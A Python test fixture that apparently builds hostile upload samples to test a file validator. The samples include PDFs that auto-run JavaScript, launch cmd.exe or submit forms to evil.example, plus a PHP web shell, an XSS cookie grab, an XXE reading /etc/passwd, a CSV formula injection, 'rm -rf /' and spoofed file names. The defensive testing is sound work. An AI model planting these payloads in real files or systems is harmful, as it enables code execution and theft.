"""PDFs, pictures, and files that are something else altogether. Each: name → (the name it is sent under, its bytes)."""

import struct
import zlib

from tests.uploads.sound_files import PNG, chunk, docx, jpeg, pdf, png, segment, xlsx

PAGE = b"<html><script>alert(document.cookie)</script></html>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def obj(body: bytes) -> bytes:
    return b"9 0 obj\n" + body + b"\nendobj\n"


def object_stream(body: bytes) -> bytes:
    packed = zlib.compress(body)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return obj(head + packed + b"\nendstream")


def pdfs() -> dict[str, tuple[str, bytes]]:
    runs = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    made = {
        "code at opening": pdf(b"/OpenAction " + runs),
        "code by name": pdf(b"/Names << /JavaScript << /Names [(a) 9 0 R] >> >>", obj(runs)),
        "code with escaped letters": pdf(b"/OpenAction << /S /J#61va#53cript /J#53 (1) >>"),
        "code in a packed object": pdf(more=object_stream(runs)),
        "code for a page": pdf(b"/AA << /WC " + runs + b" >>"),
        "code behind a word that begins a stream": pdf(more=b"%stream\n" + obj(runs) + b"%endstream\n"),
        "a program started": pdf(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"),
        "a form sent away": pdf(b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"),
        "a file inside": pdf(
            b"/Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >>", obj(b"<< /Type /Filespec /F (a.exe) >>")
        ),
        "a file pinned to a page": pdf(more=obj(b"<< /Type /Annot /Subtype /FileAttachment >>")),
        "a film": pdf(more=obj(b"<< /Subtype /RichMedia >>")),
        "another file gone to": pdf(b"/OpenAction << /S /GoToE /T << /R /C >> >>"),
        "a form of the other kind": pdf(b"/AcroForm << /XFA [(a) 9 0 R] >>"),
        "locked": pdf().replace(b"/Size 5", b"/Size 5 /Encrypt 9 0 R"),
        "a packed object that grows": pdf(more=object_stream(bytes(25 * 1024 * 1024))),
        "a page in its head": pdf(head=b"%PDF-1.4\n" + PAGE + b"\n"),
        "php in its head": pdf(head=b"%PDF-1.4\n%<?php system($_GET['c']); ?>\n"),
        "a page before it": PAGE + pdf(),
        "blanks before it": b"\n" * 20 + pdf(),
        "a picture before it": jpeg() + pdf(),
        "a page behind it": pdf(tail=PAGE),
        "an archive behind it": pdf(tail=xlsx()),
        "an archive and an end behind it": pdf(tail=xlsx() + b"\n%%EOF"),
        "a program behind it": pdf(tail=b"MZ" + bytes(2000)),
        "only a head": b"%PDF-1.7\n",
        "nothing but its name": b"%PDF-",
        "the test of virus scanners": EICAR,
        "a page": PAGE,
    }
    made |= {f"cut after {n} quarters": pdf()[: len(pdf()) * n // 4] for n in (1, 2, 3)}
    return {f"pdf: {what}": ("to-trinh.pdf", content) for what, content in made.items()}


def pictures() -> dict[str, tuple[str, bytes]]:
    jpegs = {
        "an archive behind": jpeg(tail=xlsx()),
        "an archive with an end mark behind": jpeg(tail=xlsx() + b"\xff\xd9"),
        "a rar behind": jpeg(tail=b"Rar!\x1a\x07\0" + bytes(99)),
        "a 7z behind": jpeg(tail=b"7z\xbc\xaf\x27\x1c" + bytes(99)),
        "a page behind": jpeg(tail=PAGE),
        "php behind": jpeg(tail=b"<?php echo 1; ?>"),
        "a pdf behind": jpeg(tail=pdf()),
        "a program behind": jpeg(tail=b"MZ\x90\0"),
        "30,000 by 30,000": jpeg(width=30_000, height=30_000),
        "65,535 by 65,535": jpeg(width=65_535, height=65_535),
        "just too large": jpeg(width=5001, height=5000),
        "no height": jpeg(height=0),
        "no width": jpeg(width=0),
        "two sizes": jpeg(frames=2),
        "a second, larger frame": jpeg(
            segment(0xC2, b"\x08" + struct.pack(">HHB", 60_000, 60_000, 1) + b"\1\x11\0")
        ),
        "no frame": jpeg(frames=0),
        "no end": jpeg()[:-2],
        "a segment beyond the end": jpeg()[:30] + b"\xff\xe1\xff\xff",
        "a segment of length 0": b"\xff\xd8\xff\xe0\0\0" + bytes(40),
        "only its first letters": b"\xff\xd8\xff",
        "only begin and end": b"\xff\xd8\xff\xd9",
        "a page in its name": PAGE,
        "a png inside": png(),
        "a gif": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    }
    jpegs |= {f"cut after {n} quarters": jpeg()[: len(jpeg()) * n // 4] for n in (1, 2, 3)}
    pngs = {
        "php behind": png(tail=b"<?php system($_GET['c']); ?>"),
        "an archive behind": png(tail=docx()),
        "a page behind": png(tail=PAGE),
        "a program behind": png(tail=b"MZ\x90\0"),
        "a script behind": png(tail=b"\n#!/bin/sh\nid\n"),
        "30,000 by 30,000": png(width=30_000, height=30_000),
        "a long line": png(width=2**31 - 1, height=1),
        "a size beyond all": png(width=2**32 - 1, height=2**32 - 1),
        "no width": png(width=0),
        "a depth there is not": png(depth=5),
        "a colour there is not": png(colour=5),
        "two heads": png(chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))),
        "no head": PNG + chunk(b"IDAT", b"1") + chunk(b"IEND", b""),
        "no pixels": PNG + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 6, 8, 2, 0, 0, 0)) + chunk(b"IEND", b""),
        "no end": png()[:-12],
        "a wrong checksum": png()[:30] + bytes([png()[30] ^ 1]) + png()[31:],
        "a chunk beyond the end": PNG + struct.pack(">I", 2**31 - 1) + b"IHDR" + bytes(40),
        "only its first letters": PNG,
        "a page": PAGE,
        "a jpeg inside": jpeg(),
    }
    pngs |= {f"cut after {n} quarters": png()[: len(png()) * n // 4] for n in (1, 2, 3)}
    return {f"jpeg: {what}": ("anh.jpg", content) for what, content in jpegs.items()} | {
        f"png: {what}": ("anh.png", content) for what, content in pngs.items()
    }


OTHERS = {
    "a page": b"<!doctype html>" + PAGE,
    "a page without a head": PAGE,
    "a drawing": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "rtf": b"{\\rtf1{\\object\\objdata 0105}}",
    "a mail": b"From: a@example.vn\r\nContent-Type: text/html\r\n\r\n<html>",
    "a text": "Biên bản họp thôn".encode(),
    "a table in text": "STT,Tên mô hình\n1,=cmd|'/c calc'!A1\n".encode(),
    "json": b'{"a": 1}',
    "a script": b"#!/bin/sh\nrm -rf /\n",
    "javascript": b"alert(1)",
    "php": b"<?php system($_GET['c']); ?>",
    "a program": b"MZ\x90\0" + bytes(200),
    "a program of linux": b"\x7fELF\x02\x01\x01" + bytes(200),
    "a class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(50),
    "a shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(90),
    "gif": b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    "bmp": b"BM\x3a\0\0\0" + bytes(60),
    "tiff": b"II*\0\x08\0\0\0" + bytes(60),
    "webp": b"RIFF\x24\0\0\0WEBPVP8 " + bytes(40),
    "heic": b"\0\0\0\x18ftypheic" + bytes(40),
    "a film": b"\0\0\0\x18ftypmp42" + bytes(40),
    "rar": b"Rar!\x1a\x07\x01\0" + bytes(50),
    "7z": b"7z\xbc\xaf\x27\x1c\0\x04" + bytes(50),
    "gzip": b"\x1f\x8b\x08\0" + bytes(50),
    "tar": b"etc/passwd".ljust(257, b"\0") + b"ustar\0" + bytes(300),
    "a database": b"SQLite format 3\0" + bytes(100),
    "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n",
    "the test of virus scanners": EICAR,
    "zeros": bytes(5000),
    "one byte": b"P",
    "nothing": b"",
}


def others() -> dict[str, tuple[str, bytes]]:
    """Each kind called by two names in turn that the doors would take."""
    names = ["a.pdf", "a.docx", "a.xlsx", "a.jpg", "a.png", "a.xls", "a.ods"]
    found = {}
    for number, (what, content) in enumerate(OTHERS.items()):
        for name in (names[number % 5], names[(number + 2) % 7]):
            found[f"{what} called {name}"] = (name, content)
    return found


def badly_named() -> dict[str, tuple[str, bytes]]:
    """Sound contents whose name says something else, or nothing, or a secret."""
    marked = [
        "Công văn MẬT số 5",
        "TỐI MẬT - kế hoạch",
        "Tuyệt mật",
        "[MẬT] báo cáo",
        "bao cao_MẬT_2024",
        "MẬT",
    ]
    # The letters may come taken apart, as some systems send them.
    marked += ["Công văn MA\u0302\u0323T"]
    found = {f"marked {text}{end}": (f"{text}{end}", content) for text in marked for end, content in
             ((".pdf", pdf()), (".xlsx", xlsx()))}  # fmt: skip
    return found | {
        "two endings": ("bao-cao.pdf.exe", pdf()),
        "no ending": ("bao-cao", pdf()),
        "a dot at the end": ("bao-cao.pdf.", pdf()),
        "letters turned round": ("bao-cao\u202efdp.exe", pdf()),
        "a page's ending": ("bao-cao.html", pdf()),
        "a stream of the name": ("bao-cao.pdf::$DATA", pdf()),
        "a nul in the name": ("bao-cao.pdf\0.exe", pdf()),
        "a workbook with macros": ("so.xlsm", xlsx()),
        "a workbook called a document": ("so.docx", xlsx()),
        "a document called a workbook": ("so.xlsx", docx()),
        "a picture called a pdf": ("anh.pdf", png()),
        "a pdf called a picture": ("anh.jpg", pdf()),
    }
